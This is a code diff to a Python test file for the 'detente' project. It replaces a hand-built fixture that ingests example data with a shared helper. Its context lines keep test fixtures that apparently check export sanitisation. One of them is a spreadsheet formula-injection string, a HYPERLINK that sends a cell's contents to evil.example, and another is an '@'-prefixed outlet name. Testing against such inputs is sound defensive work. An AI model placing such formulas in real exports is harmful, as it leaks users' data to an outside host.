@@ -11,8 +11,7 @@ import pytest
 
 from detente.records import Actor, Document, Location, Mention
 from detente.store.db import Store
-from tests.cli.conftest import detente
-from tests.conftest import EXAMPLES
+from tests.cli.conftest import ingest_examples
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
 HOSTILE_OUTLET = "@Evil\tOutlet"
@@ -23,10 +22,7 @@ HOSTILE_TEXT = "First line.\n\n" + HOSTILE_SENTENCE + "\nMore text."
 @pytest.fixture(scope="session")
 def seeds_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """``detente ingest examples/`` into a fresh store, once; read it only."""
-    db = tmp_path_factory.mktemp("exports") / "seeds.duckdb"
-    result = detente("ingest", str(EXAMPLES), db=db)
-    assert result.returncode == 0, result.stderr
-    return db
+    return ingest_examples(tmp_path_factory, "exports")[0]
 
 
 def hostile_document() -> Document:
